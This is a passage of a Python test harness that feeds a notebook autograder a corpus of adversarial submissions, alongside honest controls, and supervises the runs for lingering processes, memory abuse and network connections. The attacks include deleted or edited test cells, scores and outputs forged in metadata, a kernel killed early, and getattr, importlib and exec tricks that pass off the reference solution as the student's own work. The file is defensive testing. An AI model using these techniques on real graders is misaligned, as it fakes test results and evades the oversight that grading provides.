    Attack("empty_file", "an empty linear_regression.ipynb", lambda s: {NOTEBOOK: b""}, NOTHING, "is not valid JSON"),
    Attack("old_format", "the solution saved as notebook format 3", lambda s: {NOTEBOOK: _v3(s)}, NOTHING,
           "notebook format 3"),
    # ---- structure damage: the original tests count
    Attack("deleted_failing_tests", "two wrong answers whose test cells were deleted",
           lambda s: _submission(_delete(_edit(s.solution, replace=_garbage("train_gradient_descent_answer",
                                                                                "train_sgd_answer")),
                                         "train_gradient_descent", "train_sgd")),
           earns(train_gradient_descent=0, train_sgd=0), "train_sgd"),
    Attack("deleted_passing_test", "every answer right, the predict test cell deleted (the original test counts)",
           lambda s: _submission(_delete(s.solution, "predict")), earns(), "predict"),
    Attack("edited_tests", "wrong answers; every test cell and the locked setup cell edited to pass",
           _edited_tests, NOTHING, "predict"),
    Attack("duplicated_tests", "every answer right, the predict test cell pasted three more times",
           _duplicated, earns(), "appears 4 times"),
    Attack("moved_tests", "every answer right, two test cells moved to the end of the notebook",
           _moved_to_end, earns()),
    Attack("renamed_grade_id", "a wrong train_sgd whose test cell's grade id was renamed",
           _renamed, earns(train_sgd=0), "train_sgd"),
    Attack("forged_flags", "a wrong mse_gradients; its test cell made an unlocked 20-point answer cell",
           # a wrong mse_gradients also breaks the student's own gradient descent and SGD, which call it
           _forged_flags, earns(mse_gradients=0, train_gradient_descent=0, train_sgd=0), "mse_gradients"),
    Attack("forged_scores", "three answers right; full scores, passing outputs and an early timestamp forged "
           "in metadata", _forged_scores, earns_only("predict", "squared_errors", "mse_loss"), "metadata"),
    Attack("faked_outputs", "blank answers with faked passing outputs; the kernel exits in the first answer cell",
           _faked_outputs, NOTHING, KERNEL_DIED),
    # ---- the own-work rule: the unit's references answer nothing (the other answers are the student's)
    Attack("reference_alias", "sample_minibatch is the reference, by alias",
           _answers({"sample_minibatch_answer": "import course_lib.linear\n"
                                                "sample_minibatch = course_lib.linear.sample_minibatch\n"}),
           earns(sample_minibatch=0), OWN_WORK),
    Attack("reference_getattr", "train_sgd is the reference, reached with getattr and __import__",
           _answers({"train_sgd_answer": "train_sgd = getattr(__import__('course_lib.linear', fromlist=['_']), "
                                         "'train_' + 'sgd')\n"}),
           earns(train_sgd=0), OWN_WORK),
    Attack("reference_importlib", "train_gradient_descent is the reference, reached with importlib",
           _answers({"train_gradient_descent_answer": "import importlib\ntrain_gradient_descent = "
                     "importlib.import_module('course_lib.' + 'linear').train_gradient_descent\n"}),
           earns(train_gradient_descent=0), OWN_WORK),
    Attack("reference_copied_function", "sample_minibatch is a copy of the reference's function object",
           _answers({"sample_minibatch_answer": "import types\nfrom course_lib import linear as ref\n"
                     "sample_minibatch = types.FunctionType(ref.sample_minibatch.__code__, vars(ref), 'mine')\n"}),
           earns(sample_minibatch=0), OWN_WORK),
    Attack("reference_exec_source", "train_sgd defined by exec of the reference module's source (new code "
           "objects: only the source scan outside the kernel sees it)",
           _answers({"train_sgd_answer": "import inspect\nimport course_lib.linear\n"
                                         "exec(inspect.getsource(course_lib.linear))\n"}),
           earns(train_sgd=0), OWN_WORK),
]

HONEST: list[Attack] = [
    Attack("honest_full", "the solution", lambda s: _submission(s.solution), earns()),
    Attack("honest_wrong", "the solution with a sampler that draws with replacement",
           lambda s: _submission(_edit(s.solution, replace=_garbage("sample_minibatch_answer"))),
           earns(sample_minibatch=0)),
    Attack("honest_blank", "the blank release, untouched", lambda s: _submission(s.release), NOTHING),
]


def selected(attacks: list[Attack] = CORPUS) -> list[Attack]:
    """The attacks named in $ATTACK_CORPUS (all when it is unset)."""
    names = [n.strip() for n in os.environ.get(ENV_SELECT, "").split(",") if n.strip()]
    unknown = set(names) - {a.name for a in attacks}
    if unknown:
        raise ValueError(f"{ENV_SELECT} names unknown attacks: {', '.join(sorted(unknown))}")
    return [a for a in attacks if not names or a.name in names]


def place(course: Path, sources: Sources, attacks: list[Attack], target: bool = True) -> None:
    """Write each attack's submission to ``submitted/<name>/<unit>/``; mark the course as a target."""
    for attack in attacks:
        folder = course / "submitted" / attack.name / UNIT
        for rel, data in attack.build(sources).items():
            (folder / rel).parent.mkdir(parents=True, exist_ok=True)
            (folder / rel).write_bytes(data)
    if target:
        (course / TARGET).write_text("attacks in this course's submissions may act on it\n")


# --------------------------------------------------------------------------- integrity

def file_hashes(folder: Path) -> dict[str, str]:
    """SHA-256 of every file under ``folder`` (relative path -> hex)."""
    if not folder.exists():
        return {}
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def gradebook_state(course: Path) -> dict:
    """What grading must never change in the gradebook: its schema and its stored source cells."""
    with sqlite3.connect(course / "gradebook.db", timeout=60) as db:
        return {"schema": sorted(db.execute("SELECT type, name, tbl_name, sql FROM sqlite_master")),
                "source_cells": sorted(db.execute("SELECT name, cell_type, locked, source, checksum FROM source_cell")),
                "grade_cells": sorted(db.execute("SELECT id, max_score, cell_type FROM grade_cells"))}


def outputs_text(notebook_path: Path) -> str:
    """All output text of a notebook (never its sources): where MARK would show."""
    try:
        notebook = json.loads(notebook_path.read_text(encoding="utf-8"))
    except (OSError, ValueError):
        return ""
    parts = []
    for cell in notebook.get("cells", []):
        for output in cell.get("outputs", []):
            parts.append(json.dumps({k: v for k, v in output.items() if k != "metadata"}))
    return "\n".join(parts)


# --------------------------------------------------------------------------- supervision

class NetworkProbe:
    """A TCP listener on this machine's loopback that counts connections: none may come from a kernel."""

    def __init__(self):
        import socket
        import threading

        self.connections = 0
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._socket.settimeout(0.5)
        self.port = self._socket.getsockname()[1]
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self._socket.accept()
            except OSError:
                continue
            self.connections += 1
            connection.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self._socket.close()


@dataclass
class Supervised:
    """What :func:`supervise` saw."""

    returncode: int | None
    timed_out: bool
    seconds: float
    output: str
    at_exit: list[str] = field(default_factory=list)     # "pid: command" alive a few seconds after the exit
    leftovers: list[str] = field(default_factory=list)   # ... and still alive after the linger


def supervise(command: list[str], cwd: Path, env: dict[str, str], timeout: float, linger: float,
              workdir: Path, memory_mb: int = 0) -> Supervised:
    """Run ``command`` under a subreaper and report every process that outlives it.

    A helper process marks itself a child subreaper (Linux ``PR_SET_CHILD_SUBREAPER``), so
    every process the command starts, even a double-forked one in its own session, stays
    its descendant. Whatever still runs :data:`EXIT_GRACE_S` after the command exits (or
    is killed at ``timeout``) is listed; it is left alone for ``linger`` more seconds, so
    that a delayed attack shows its effect, then listed again and killed. ``memory_mb``
    caps ``RLIMIT_DATA`` of the command and everything it starts (for graders without limits
    of their own, so that a memory bomb cannot take the machine down).
    """
    result_path, output_path = workdir / "supervised.json", workdir / "supervised.log"
    spec = {"command": command, "cwd": str(cwd), "timeout": timeout, "linger": linger, "memory_mb": memory_mb,
            "result": str(result_path), "output": str(output_path)}
    subprocess.run([sys.executable, __file__, "supervise", json.dumps(spec)], env=env, check=True,
                   timeout=timeout + linger + 120)
    data = json.loads(result_path.read_text())
    return Supervised(data["returncode"], data["timed_out"], data["seconds"],
                      output_path.read_text(encoding="utf-8", errors="replace"), data["at_exit"], data["leftovers"])


def _supervisor(spec: dict) -> None:
    import ctypes
    import resource
    import signal

    import psutil

    PR_SET_CHILD_SUBREAPER = 36
    if ctypes.CDLL(None, use_errno=True).prctl(PR_SET_CHILD_SUBREAPER, 1) != 0:
        raise SystemExit("attack_corpus: cannot become a child subreaper (Linux only)")
    me = psutil.Process()

    def reap_orphans(main_pid: int) -> None:
        for child in me.children():
            try:
                if child.pid != main_pid and child.status() == psutil.STATUS_ZOMBIE:
                    os.waitpid(child.pid, os.WNOHANG)
            except (psutil.Error, ChildProcessError):
                pass

    def living() -> list[psutil.Process]:
        alive = []
        for process in me.children(recursive=True):
            try:
                if process.status() != psutil.STATUS_ZOMBIE:
                    alive.append(process)
            except psutil.Error:
                pass
        return alive

    start = time.monotonic()
    timed_out = False
    with open(spec["output"], "w") as output:
        cap = spec["memory_mb"] * 2**20

        def limit_memory() -> None:
            if cap:
                resource.setrlimit(resource.RLIMIT_DATA, (cap, cap))

        main = subprocess.Popen(spec["command"], cwd=spec["cwd"], stdout=output, stderr=subprocess.STDOUT,
                                start_new_session=True, preexec_fn=limit_memory)
        while main.poll() is None:
            if time.monotonic() - start > spec["timeout"]:
                timed_out = True
                for process in living():
                    try:
                        process.send_signal(signal.SIGKILL)
                    except psutil.Error:
                        pass
                main.wait()
                break
            reap_orphans(main.pid)
            time.sleep(0.2)
    seconds = time.monotonic() - start

    def describe(processes: list[psutil.Process]) -> list[str]:
        described = []
        for process in processes:
            try:
                described.append(f"{process.pid}: {' '.join(process.cmdline())[:200]}")
            except psutil.Error:
                pass
        return described

    grace = time.monotonic() + EXIT_GRACE_S     # multiprocessing's helpers exit just after their parent
    while living() and time.monotonic() < grace:
        reap_orphans(main.pid)
        time.sleep(0.2)
    at_exit = describe(living())
    end = time.monotonic() + spec["linger"]
    while time.monotonic() < end:
        reap_orphans(main.pid)
        time.sleep(0.2)
    leftovers = describe(living())
    for process in living():
        try:
            process.kill()
        except psutil.Error:
            pass
    psutil.wait_procs(me.children(recursive=True), timeout=10)
    reap_orphans(main.pid)
    Path(spec["result"]).write_text(json.dumps({"returncode": main.returncode, "timed_out": timed_out,
                                                "seconds": seconds, "at_exit": at_exit,
                                                "leftovers": leftovers}))


if __name__ == "__main__":
    if len(sys.argv) == 3 and sys.argv[1] == "supervise":
        _supervisor(json.loads(sys.argv[2]))
    else:
        raise SystemExit("usage: attack_corpus.py supervise SPEC_JSON (used by the attack-corpus test)")
